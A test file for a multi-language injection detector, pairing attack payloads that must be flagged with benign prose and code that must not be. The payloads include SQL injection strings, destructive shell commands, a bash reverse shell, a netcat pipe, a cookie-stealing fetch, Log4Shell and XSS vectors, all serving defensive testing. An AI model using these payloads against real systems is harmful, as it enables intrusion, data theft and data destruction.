// Tests of detection: examples of each language are found; prose and ordinary programs are not.
import { describe, expect, test } from "bun:test";
import { compileDetector } from "./detector.ts";
import { LANGUAGES, type Language } from "./settings.ts";

const all = compileDetector(LANGUAGES);

const EXAMPLES: Readonly<Record<Language, readonly string[]>> = {
  javascript: [
    "eval()",
    "x = eval(atob('YQ=='))",
    "window.eval(name)",
    "new Function('return this')()",
    "Function()",
    "setTimeout('go()', 10)",
    "setInterval(`go()`, 10)",
    "list.innerHTML = text",
    "list.outerHTML += text",
    "document.write(text)",
    "document['write'](text)",
    '<a href="javascript:go()">',
    "<p onpointerenter=go()>",
    "<svg/onload=go()>",
    "target.addEventListener('load', 'go()')",
    "window['ev' + 'al']('1')",
    "require('child_process').exec('ls')",
    "fetch('//x/?' + document.cookie)",
    "alert(1)",
  ],
  python: [
    "exec()",
    "exec('x = 1')",
    "eval(input())",
    "compile(source, 'f', 'exec')",
    "__import__('os').system('id')",
    "os.system('id')",
    "os.popen('id').read()",
    "subprocess.Popen(['id'])",
    "subprocess.check_output('id', shell=True)",
    "pickle.loads(b'...')",
    "().__class__.__bases__[0].__subclasses__()",
    "{{ 7*7 }}",
  ],
  php: [
    "eval()",
    "system('id')",
    "<?php echo 1;",
    "shell_exec($c)",
    "$_GET['c']",
    "$f['g']('id')",
    'O:8:"stdClass":0:{}',
    "php://filter/read=x",
    "('sys'.'tem')('id')",
    "preg_replace('/.*/e', $a, $b)",
  ],
  sql: [
    "UNION SELECT",
    "-1 union all select 1,2,3",
    "1 UNION SELECT password FROM users",
    "DROP TABLE users",
    "drop database shop;",
    "1 OR 1=1",
    "' or 'a'='a",
    '" or ""="',
    "admin'--",
    "x'; DELETE FROM users; --",
    "1; EXEC xp_cmdshell 'dir'",
    "1 AND SLEEP(5)",
    "1 waitfor delay '0:0:5'",
    "1 and 1=(select count(*) from information_schema.tables)",
    "(select(0)from(select(sleep(15)))v)",
    "1' order by 10-- -",
    "load_file('/x')",
    "x into outfile '/x'",
    "/*!50000UNION*/ /*!50000SELECT*/ 1",
    "1 group by x having 1=1",
  ],
  shell: [
    "system('id')",
    "exec('id')",
    "x; rm -rf /",
    "x && whoami",
    "x | nc 10.0.0.1 80",
    "x || ping -c 1 host",
    "$(whoami)",
    "a=`id`",
    "`uname -a`",
    "cat /etc/passwd",
    "/bin/sh -c id",
    "echo x > /tmp/x",
    "cd /etc",
    "cd ../..",
    "chmod 777 x",
    "chown root:root x.sh",
    "c''at /etc/hostname",
    "w'h'oami; id",
    "cat${IFS}/x",
    "/???/b??h",
    "() { :;}; id",
    ":(){ :|:& };:",
    "for %i in (*) do echo %i",
    "powershell -enc AAAA",
    "bash -i >& /dev/tcp/1.2.3.4/5",
  ],
  java: [
    "Runtime.exec()",
    'Runtime.getRuntime().exec("id")',
    'new ProcessBuilder("id").start()',
    'Class.forName("x.Y")',
    "${jndi:ldap://host/x}",
    "T(java.lang.Runtime)",
    "rO0ABXNy",
    "java.lang.ProcessBuilder",
  ],
  csharp: [
    "Process.Start()",
    'System.Diagnostics.Process.Start("cmd.exe")',
    'new ProcessStartInfo("cmd")',
    "Assembly.Load(bytes)",
    'Type.GetType("System.Diagnostics.Process")',
  ],
  ruby: [
    "eval()",
    "eval(params[:x])",
    "exec('id')",
    "Kernel.system('id')",
    'exec "rm x"',
    "IO.popen('id')",
    "%x(id)",
    "obj.send(:eval, x)",
    "<%= system('id') %>",
  ],
  html: [
    "<script>",
    "<SCRIPT src=//x>",
    "</script >",
    "<img src=x onerror=go()>",
    "onerror=",
    "<iframe src=x>",
    "<object data=x>",
    "<base href=//x>",
    "<meta http-equiv=refresh content=0>",
    "<a href=data:text/html,x>",
    "<div style=width:expression(go())>",
    "<!ENTITY x SYSTEM 'file:///x'>",
    "<!--#exec cmd='id'-->",
  ],
};

for (const language of LANGUAGES) {
  describe(language, () => {
    const own = compileDetector([language]);
    test.each(EXAMPLES[language].map((text) => [text]))("finds %s", (text) => {
      const finding = own.first(text);
      expect(finding).toMatchObject({ language });
      expect(finding?.pattern).toMatch(/^[a-z]+\.[a-z0-9-]+$/);
      expect(all.first(text)).not.toBeNull();
    });
  });
}

const HARMLESS = [
  "please select a union rep and drop by the table",
  "The European Union select committee met on Monday, and the credit union selected a chair.",
  "What does eval() do in JavaScript, and why is it dangerous?",
  "Is it safe to use eval()?",
  "How does `exec()` differ from `eval()`?",
  "Explain the difference between os.system and subprocess.Popen.",
  "What is innerHTML and when should I avoid document.write?",
  "How do I drop a table in SQL? When would you drop the table?",
  "Where does the <script> tag belong, in the head or the body?",
  "Our operating system (Linux) and the file system(s) on it are old; cat and dog owners agree.",
  'She said "stop" -- and left. It\'s 5\' or 6\' tall, 10" by 12" wide.',
  "He's 30 and she's 25; who knows why? Find a cafe; sort it out; kill time.",
  "Rock & roll, R&D; more or less, top 10 | best of",
  "The ratio is 3:1 and 2 > 1, or is 2 = 3?",
  "What is the difference between `cat` and `less`? You can run `ls -la` to see.",
  "| name | date | time |\n|------|------|------|\n| cat | find | sort |\n",
  "model.eval()\npattern = re.compile(r'[a-z]+')\nmatch = regex.exec(line)",
  "if a == 'x' and b == 'y' or c == 1 and d == 2:\n    print(f'{a} and {b}')",
  "if (a === 'x' || b !== \"y\" && c > 0) { total += price * 2; }",
  "const later = setTimeout(() => done(), 1000); setTimeout(resolve, 100);",
  '<button onClick={save} className="big">Save</button>',
  '<div class="a"><p style="color: red">Hello</p><a href="/x">x</a></div>',
  "SELECT name, COUNT(*) FROM orders WHERE city = 'Paris' AND total > 30 GROUP BY name ORDER BY 2;",
  "CREATE TABLE users (id INT PRIMARY KEY, name TEXT NOT NULL);",
  "import java.util.List;\nimport java.io.IOException;\npublic class Main { void run() { System.out.println(1); } }",
  "using System.Diagnostics;\nvar watch = Stopwatch.StartNew();",
  "def compile(self, source):\n    return self.parse(source)",
  "git add . && git commit -m 'x' && git push\nnpm install && npm test",
  "curl https://api.example.com/v1/items -H 'Accept: application/json'",
  "Let $f(x) = x^2$ and $P(A|B) = 0.5$; find $f(g(2))$.",
  "My password; my user id is 'bob'. Thanks; id like that.",
  "https://example.com/search?q=cats&id=5&sort=date&env=prod#top",
  "50% off, 20% more &amp; free shipping &lt;3",
  '{"id": 5, "env": "prod", "query": {"match": {"name": "x"}}}',
  "日本語のテキストと、ｆｕｌｌ ｗｉｄｔｈ の文字。",
];

test.each(HARMLESS.map((text) => [text]))("accepts: %s", (text) => {
  expect(all.findAll(text)).toEqual([]);
  expect(all.first(text)).toBeNull();
});

test("detects only the requested languages", () => {
  expect(compileDetector(["html"]).first("DROP TABLE users")).toBeNull();
  expect(compileDetector(["sql"]).first("<script>")).toBeNull();
  expect(compileDetector([]).first("<script>eval(1)</script>")).toBeNull();
});

test.each([
  ["base64_decode($a)", "base65_decode($a)"],
  ["str_rot13($a)", "str_rot14($a)"],
])("distinguishes digits in triggers: %s, not %s", (found, passed) => {
  expect(all.first(found)).not.toBeNull();
  expect(all.first(passed)).toBeNull();
});

test("a finding has the position of the match", () => {
  const text = "hello, 1 UNION SELECT 2 and more";
  const finding = compileDetector(["sql"]).first(text);
  expect(finding).toEqual({ start: 9, end: 23, language: "sql", pattern: "sql.union-select" });
});

test("finds a match at any position around a block boundary", () => {
  const detector = compileDetector(["sql", "html"]);
  for (let before = 4070; before <= 4110; before++) {
    const text = `${"a ".repeat(before).slice(0, before)} 1 UNION SELECT 2`;
    expect(detector.findAll(text)).toEqual([
      { start: before + 3, end: before + 17, language: "sql", pattern: "sql.union-select" },
    ]);
  }
  expect(detector.first(`${"a".repeat(4090)} <script`)).not.toBeNull();
});

test("finds a match once at any position of a text that is read in halves, also after another match", () => {
  const detector = compileDetector(["sql", "html"]);
  const filler = "hello there ".repeat(80);
  for (const length of [250, 256, 300, 301, 700]) {
    for (let before = 0; before + 17 <= length; before++) {
      const text = `${filler.slice(0, before)} 1 UNION SELECT 2 ${filler}`.slice(0, length);
      const found = detector.findAll(text);
      const start = before + 3;
      expect(found).toEqual([{ start, end: start + 14, language: "sql", pattern: "sql.union-select" }]);
    }
  }
  const both = detector.findAll(`${filler.slice(0, 100)} <script> ${filler.slice(0, 300)} 1 UNION SELECT 2`);
  expect(both.map(({ pattern }) => pattern)).toEqual(["html.script-tag", "sql.union-select"]);
});

test("does not read units that a longer text left in a buffer", () => {
  const long = `${"a ".repeat(600_000)} 1 UNION SELECT 2`;
  for (const text of [long, long.slice(1_100_000), "1 UNION", " SELECT 2", ""])
    expect(all.first(text) === null).toBe(!text.includes("UNION SELECT"));
});
